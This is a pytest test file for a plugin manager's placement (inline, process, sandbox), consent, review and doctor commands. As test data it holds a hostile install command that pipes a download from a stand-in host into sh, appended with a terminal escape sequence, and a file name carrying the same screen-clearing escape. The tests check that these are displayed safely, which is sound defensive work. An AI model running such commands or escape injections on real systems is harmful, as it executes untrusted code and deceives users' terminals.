"""`place`, and what the other commands show of a plugin that runs in a process."""

from __future__ import annotations

import json
import sys
from typing import TYPE_CHECKING

import pytest

from ally_plugins.cli.shell.processes import sandbox_gaps
from ally_plugins.runtime.sandbox.support import Support, support

if TYPE_CHECKING:
    from pathlib import Path

    from .conftest import Operator

LONG = "x" * 300

FOLDER = f"""
description = "counts"
[daemon]
command = ["./run.sh", "{LONG}", "a b"]
[daemon.limits]
memory_mb = 64
[permissions]
env = {{ names = ["API_KEY"], reason = "to ask the service" }}
"""

LEGACY = {
    "name": "monitor", "version": "1.2.0", "description": "watches", "runtime": "python3", "activationMode": "tagged",
    "dependencies": {"file": "requirements.txt", "install_command": f"curl http://x/{LONG} | sh\u001b[2J"},
    "tools": [{"name": "reverse", "description": "turns", "command": "python3", "args": ["reverse.py", LONG],
               "requiresConfirmation": True, "schema": {"type": "object", "properties": {}}}],
    "background": {"enabled": True, "command": "python3", "args": ["daemon.py"],
                   "communication": {"type": "socket", "path": "/run/m.sock"}, "events": ["TOOL_CALL_END"]},
}  # fmt: skip


@pytest.fixture
def folder(operator: Operator) -> Path:
    path = operator.home.plugins_dir / "counter"
    path.mkdir(parents=True)
    (path / "ally-plugin.toml").write_text(FOLDER)
    (path / "run.sh").write_text("")
    return path


def test_a_plugin_moves_into_a_process_and_back_and_both_are_recorded(enabled: Operator) -> None:
    moved = enabled.ask("place", "loop-warner", "process")
    assert moved["placement"] == "process"
    assert moved["daemon"]["command"] == [sys.executable, "-m", "ally_plugins.daemon", "loop_warner:Plugin"]
    assert "no sandbox" in moved["trust"]
    assert enabled.ask("list")["plugins"][0]["placement"] == "process"
    back = enabled.run("place", "loop-warner", "inline").stdout
    assert "they do not contain it" in back
    assert [record["data"] for record in enabled.records("place")] == [
        {"placement": "process"},
        {"placement": "inline"},
    ]


def test_a_plugin_moves_into_a_sandbox_and_is_shown_there(enabled: Operator) -> None:
    moved = enabled.ask("place", "loop-warner", "sandbox")
    assert (moved["placement"], moved["daemon"]["command"][0]) == ("sandbox", sys.executable)
    assert moved["trust"].startswith("it runs in a sandbox: ")
    assert moved["not_kept"] == list(sandbox_gaps())
    assert enabled.ask("list")["plugins"][0]["placement"] == "sandbox"
    assert "reaches no other process" in enabled.run("list").stdout
    assert "sandbox" in enabled.run("info", "loop-warner").stdout
    assert 'placement = "sandbox"' in enabled.home.config_file.read_text()


@pytest.mark.skipif(not support().has_filter, reason="there is no sandbox here")
def test_review_offers_a_sandbox_to_what_is_enabled_and_outside_of_one(enabled: Operator) -> None:
    assert enabled.ask("review")["outside_sandbox"] == ["loop-warner"]
    assert "outside of a sandbox: loop-warner; to place one there" in enabled.run("review").stdout
    enabled.run("place", "loop-warner", "process")
    assert enabled.ask("review")["outside_sandbox"] == ["loop-warner"]
    enabled.run("place", "loop-warner", "sandbox")
    assert enabled.ask("review")["outside_sandbox"] == []
    assert "outside of a sandbox" not in enabled.run("review").stdout


def test_a_plugin_is_agreed_to_and_placed_in_one_step_and_never_runs_elsewhere(warner: Operator) -> None:
    shown = warner.run("enable", "loop-warner", "--place", "sandbox", code=1).stdout
    assert "sandbox: it runs in a sandbox" in shown
    assert not warner.home.config_file.exists()
    warner.run("enable", "loop-warner", "--place", "sandbox", "--yes")
    (plugin,) = warner.ask("list")["plugins"]
    assert (plugin["placement"], plugin["state"]) == ("sandbox", "enabled")


def test_what_is_enabled_for_the_first_time_is_placed_in_a_sandbox_and_one_sentence_leads_out(warner: Operator) -> None:
    for look in (("list",), ("info", "loop-warner")):
        assert "sandbox: " not in warner.run(*look).stdout.replace("sandbox: it runs in a sandbox", "")
    assert warner.ask("list")["plugins"][0]["placement"] == "sandbox"  # where it would be
    out = "to run it inside the agent's process instead: ally-plugins place loop-warner inline"
    shown = warner.run("enable", "loop-warner", "--yes").stdout
    assert shown.count(out) == 2  # before the consent, and after it
    assert f"placed: sandbox; {out}" in shown
    assert warner.records("enable")[0]["data"]["placement"] == "sandbox"
    assert 'placement = "sandbox"' in warner.home.config_file.read_text()
    assert warner.ask("list")["plugins"][0]["placement"] == "sandbox"
    assert "is placed: inline" in warner.run("place", "loop-warner", "inline").stdout
    assert warner.ask("review")["outside_sandbox"] == (["loop-warner"] if support().has_filter else [])


def test_a_plugin_of_an_older_home_stays_where_it_is_when_it_is_agreed_to_again(enabled: Operator) -> None:
    for file in (enabled.home.config_file, enabled.home.consent_file):  # as they were written before
        file.write_text("".join(line for line in file.read_text().splitlines(keepends=True) if "placement" not in line))
    assert enabled.ask("list")["plugins"][0]["placement"] == "inline"
    enabled.run("disable", "loop-warner")
    shown = enabled.run("enable", "loop-warner", "--yes").stdout
    assert "inline: it runs inside your agent's process" in shown
    assert "placed: " not in shown
    assert enabled.ask("list")["plugins"][0]["placement"] == "inline"
    assert "placement" not in enabled.home.config_file.read_text()


@pytest.mark.parametrize("placed", ["enabled so", "moved there"])
def test_a_plugin_stays_in_its_sandbox_when_config_toml_has_lost_the_line(warner: Operator, placed: str) -> None:
    warner.run("enable", "loop-warner", "--yes", *([] if placed == "enabled so" else ["--place", "inline"]))
    warner.run("place", "loop-warner", "sandbox")
    file = warner.home.config_file
    file.write_text(file.read_text().replace('placement = "sandbox"\n', ""))
    assert "placement" not in file.read_text()
    (plugin,) = warner.ask("list")["plugins"]
    assert (plugin["placement"], plugin["state"]) == ("sandbox", "enabled")


LISTENER = """
description = "listens"
[daemon]
command = ["./run.sh"]
transport = "socket"
socket = "/tmp/it.sock"
"""


def test_what_no_sandbox_can_hold_is_said_at_consent_and_refused_where_one_is_required(
    operator: Operator, folder: Path
) -> None:
    (folder / "ally-plugin.toml").write_text(LISTENER)
    shown = operator.run("enable", "counter", code=1).stdout
    assert "process: it runs in a process of its own" in shown
    assert "no sandbox can hold it: it listens on a Unix socket, which there is none of in a sandbox" in shown
    operator.home.prepare()
    operator.home.config_file.write_text('sandbox = "require"\n')
    refused = operator.run("enable", "counter", "--yes", code=1).stderr
    assert "config.toml says sandbox = 'require', and it listens on a Unix socket" in refused
    assert "ally-plugins enable counter --place process" in refused
    assert operator.ask("list")["plugins"][0]["state"] == "waiting for consent"
    operator.run("enable", "counter", "--place", "process", "--yes")
    assert operator.ask("list")["plugins"][0]["placement"] == "process"


NEEDY = """
description = "reads the project"
[permissions]
files = { read = ["project"], reason = "to read it" }
network = { reason = "to look words up" }
"""


@pytest.mark.parametrize(
    ("found", "shown", "unheld"),
    [
        (Support(has_filter=False, landlock=0, system="darwin arm64"), "sandbox (none here)", True),
        (Support(has_filter=True, landlock=0, system="linux x86_64"), "sandbox", False),
    ],
    ids=["no sandbox at all", "no Landlock"],
)
def test_a_machine_that_cannot_keep_a_sandbox_says_so_in_every_command_and_claims_nothing(
    operator: Operator, monkeypatch: pytest.MonkeyPatch, found: Support, shown: str, *, unheld: bool
) -> None:
    monkeypatch.setattr("ally_plugins.runtime.sandbox.support.support", lambda: found)
    operator.install(manifest=NEEDY)
    said = operator.run("enable", "loop-warner", "--yes").stdout
    said_by = {look: operator.run(*look).stdout for look in (("list",), ("info", "loop-warner"), ("doctor",))}
    about = next(iter(sandbox_gaps()))
    for text in (said, *said_by.values()):
        assert about in text
        assert "does not hold on this machine" in text
        assert ("it reads no file but" in text) is found.has_filter
    assert f"{shown}: it " in said
    assert f"placed: {shown}; " in said
    assert f"{shown}  " in said_by["list",]
    (plugin,) = operator.ask("list")["plugins"]
    assert plugin["unheld"] == (["files:read:project", "network"] if unheld else ["files:read:project"])
    assert plugin["not_kept"] == list(sandbox_gaps())
    operator.home.config_file.write_text('sandbox = "require"\n' + operator.home.config_file.read_text())
    assert "it does not start so: config.toml says sandbox = 'require'" in operator.run("list").stdout


def test_a_placement_in_which_a_plugin_cannot_run_is_refused_before_anything_is_agreed_to(
    operator: Operator, folder: Path
) -> None:
    said = operator.run("enable", folder.name, "--place", "inline", "--yes", code=1).stderr
    assert "ships a program and no class" in said
    assert operator.ask("list")["plugins"][0]["state"] != "enabled"


def test_what_this_machine_does_not_keep_is_said_wherever_a_sandbox_is(
    enabled: Operator, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = Support(has_filter=True, landlock=2, system="linux x86_64")
    monkeypatch.setattr("ally_plugins.runtime.sandbox.support.support", lambda: old)
    monkeypatch.setattr("ally_plugins.runtime.processes.separation.has_namespaces", lambda: False)
    moved = enabled.run("place", "loop-warner", "sandbox").stdout
    assert "not kept on this machine: files that it may not read can be emptied" in moved
    assert "not kept on this machine: files that" in enabled.run("list").stdout
    assert "not kept on this machine: files that" in enabled.run("info", "loop-warner").stdout
    checks = [check for check in enabled.ask("doctor")["findings"] if check["topic"] == "sandbox"]
    assert [check["level"] for check in checks] == ["warning", "warning"]
    assert "not kept for loop-warner: it may end your other programs" in checks[1]["text"]
    monkeypatch.setattr("ally_plugins.runtime.processes.separation.has_namespaces", lambda: True)
    checks = [check for check in enabled.ask("doctor")["findings"] if check["topic"] == "sandbox"]
    [limits] = [check["text"] for check in enabled.ask("doctor")["findings"] if check["topic"] == "cgroups"]
    assert "not for a plugin with all that it starts" in limits
    assert ["emptied" in check["text"] for check in checks] == [True]  # who has a namespace signals nobody outside
    enabled.home.config_file.write_text('sandbox = "require"\n' + enabled.home.config_file.read_text())
    assert "it does not start" in enabled.run("doctor", code=1).stdout


def test_a_named_python_is_shown_and_used(enabled: Operator) -> None:
    enabled.run("place", "loop-warner", "process", "--interpreter", sys.executable)
    assert f'interpreter = "{sys.executable}"' in enabled.home.config_file.read_text()
    assert sys.executable in enabled.run("info", "loop-warner").stdout
    enabled.run("place", "loop-warner", "inline")
    assert "interpreter" not in enabled.home.config_file.read_text()


def test_a_python_that_lacks_what_is_to_be_run_is_warned_of(enabled: Operator, tmp_path: Path) -> None:
    other = tmp_path / "python"
    other.write_text("#!/bin/sh\necho '[]'\n")
    other.chmod(0o755)
    placed = enabled.ask("place", "loop-warner", "process", "--interpreter", str(other))
    assert placed["warnings"] == [
        f"{other} does not find the module 'ally_plugins'; install it there",
        f"{other} does not find the module 'loop_warner'; install it there",
    ]


@pytest.mark.parametrize(
    ("words", "code", "reason"),
    [
        (("loop-warner", "cellar"), 2, "invalid value 'cellar' for 'PLACEMENT'"),
        (("loop-warnr", "process"), 2, "did you mean 'loop-warner'?"),
        (("loop-warner", "inline", "--env", "x"), 2, "are for a process"),
        (("loop-warner", "process", "--env", "x", "--interpreter", "y"), 2, "exclude each other"),
        (("loop-warner", "process", "--env", "x"), 1, "to build it: ally-plugins env x"),
        (("loop-warner", "process", "--env", "../x"), 1, "is not there"),
        (("loop-warner", "process", "--interpreter", "no-such-python"), 2, "no program 'no-such-python' on PATH"),
        (("loop-warner", "process", "--interpreter", "/no/python"), 1, "there is no Python at '/no/python'"),
    ],
)
def test_what_cannot_be_is_refused_and_changes_nothing(
    enabled: Operator, words: tuple[str, ...], code: int, reason: str
) -> None:
    before = enabled.home.config_file.read_text()
    assert reason in enabled.run("place", *words, code=code).stderr
    assert enabled.home.config_file.read_text() == before
    assert enabled.records("place") == []


def test_what_ships_a_program_is_not_placed_inline(operator: Operator, folder: Path) -> None:
    assert folder.is_dir()
    operator.run("enable", "counter", "--yes")
    said = operator.run("place", "counter", "inline", code=1).stderr
    assert "ships a program and no class" in said


def test_consent_shows_the_whole_command_its_limits_and_its_variables(operator: Operator, folder: Path) -> None:
    shown = operator.run("review").stdout
    assert f"{folder}/run.sh {LONG} 'a b'" in shown
    assert "memory 64 MiB" in shown
    assert "API_KEY (passed on)" in shown
    assert "API_KEY (not granted)" in operator.run("info", "counter").stdout
    assert "is given your environment's API_KEY" in shown
    assert "sandbox: it runs in a sandbox: " in shown
    assert "to run it in a plain process instead: ally-plugins place counter process" in shown
    assert "it is no sandbox" in operator.run("enable", "counter", "--place", "process", code=1).stdout
    agreed = operator.ask("enable", "counter", "--yes")
    assert agreed["daemon"]["command"] == [f"{folder}/run.sh", LONG, "a b"]
    assert agreed["variables"] == []
    assert operator.ask("info", "counter")["variables"] == ["API_KEY"]
    assert "API_KEY (passed on)" in operator.run("info", "counter").stdout


def test_a_changed_file_waits_and_review_names_it(operator: Operator, folder: Path) -> None:
    operator.run("enable", "counter", "--yes")
    (folder / "evil\x1b[2J.py").write_text("x")
    (folder / "run.sh").write_text("y")
    shown = operator.run("review").stdout
    assert "file changed run.sh" in shown
    assert "file added evil\\x1b[2J.py" in shown
    assert "\x1b" not in shown
    assert operator.ask("list")["plugins"][0]["state"] == "waiting for consent"
    operator.run("enable", "counter", "--yes")
    assert operator.ask("review")["pending"] == []


def test_a_plugin_json_shows_downloads_programs_and_questions_untruncated(operator: Operator) -> None:
    path = operator.home.plugins_dir / "monitor"
    path.mkdir(parents=True)
    (path / "plugin.json").write_text(json.dumps(LEGACY))
    (path / "requirements.txt").write_text(f"{LONG}==1\n")
    shown = operator.run("review").stdout
    assert f"curl http://x/{LONG} | sh\\x1b[2J" in shown
    assert f"requirements.txt: {LONG}==1" in shown
    assert f"reverse: python3 reverse.py {LONG}, for each call" in shown
    assert "before each run of reverse" in shown
    assert "only after a message with +monitor" in shown
    assert "socket /run/m.sock" in shown
    assert "\x1b" not in shown
    data = operator.ask("review")["pending"][0]["bridge"]
    assert f"requirements.txt: {LONG}==1" in data["downloads"]


def test_what_is_not_installed_for_a_plugin_json_keeps_it_from_running_and_is_said(operator: Operator) -> None:
    path = operator.home.plugins_dir / "monitor"
    path.mkdir(parents=True)
    (path / "plugin.json").write_text(json.dumps({**LEGACY, "dependencies": {"file": "requirements.txt"}}))
    (path / "requirements.txt").write_text("some-thing==1\n")
    operator.run("enable", "monitor", "--yes")
    plugin = operator.ask("list")["plugins"][0]
    assert plugin["state"] == "not configured"
    assert plugin["reason"] == "its dependencies are not installed; to install them: ally-plugins env monitor"
    assert plugin["command"] == ["python3", "daemon.py"]
    shown = operator.run("env", "monitor", code=1).stdout
    assert "downloads: requirements.txt: some-thing==1" in shown
    assert f"-r {path}/requirements.txt" in shown


def test_a_folder_and_a_package_of_one_name_are_both_listed_and_chosen_by_enable(warner: Operator) -> None:
    path = warner.home.plugins_dir / "loop-warner"
    path.mkdir(parents=True)
    (path / "ally-plugin.toml").write_text(FOLDER)
    assert [plugin["label"] for plugin in warner.ask("list")["plugins"]] == ["loop-warner", "folder:loop-warner"]
    assert warner.ask("enable", "folder:loop-warner", "--yes")["origin"] == "folder"
    folder, package = warner.ask("list")["plugins"]
    assert (folder["label"], folder["state"], folder["name"]) == ("folder:loop-warner", "enabled", "loop-warner")
    assert (package["label"], package["state"]) == ("loop-warner", "disabled")
    assert package["reason"].endswith("ally-plugins enable loop-warner")
    assert warner.ask("enable", "loop-warner", "--yes")["origin"] == "package"
    assert warner.ask("info", "loop-warner")["origin"] == "package"
    assert warner.ask("info", "folder:loop-warner")["state"] == "disabled"


def test_a_folder_is_nothing_to_uninstall(operator: Operator, folder: Path) -> None:
    said = operator.run("uninstall", "counter", "--yes", code=2).stderr
    assert f"is the folder {folder}, which no installer knows" in said


def test_doctor_finds_programs_that_are_not_there(operator: Operator, folder: Path) -> None:
    (folder / "ally-plugin.toml").write_text('[daemon]\ncommand = ["no-such-program-anywhere"]')
    operator.run("enable", "counter", "--yes")
    findings = operator.ask("doctor", code=1)["findings"]
    found = [each for each in findings if "no-such-program-anywhere" in each["text"]]
    assert [each["level"] for each in found] == ["problem"]
    assert found[0]["remedy"]


def test_doctor_finds_a_program_that_may_not_be_run(operator: Operator, folder: Path) -> None:
    assert folder.is_dir()
    operator.run("enable", "counter", "--yes")
    findings = operator.ask("doctor", code=1)["findings"]
    assert any("run.sh" in each["text"] and each["remedy"].startswith("chmod u+x") for each in findings)


def test_doctor_finds_an_environment_that_is_broken(enabled: Operator) -> None:
    (enabled.home.envs_dir / "half" / "bin").mkdir(parents=True)
    findings = enabled.ask("doctor", code=0)["findings"]
    assert any("the environment 'half' is not complete" in each["text"] for each in findings)
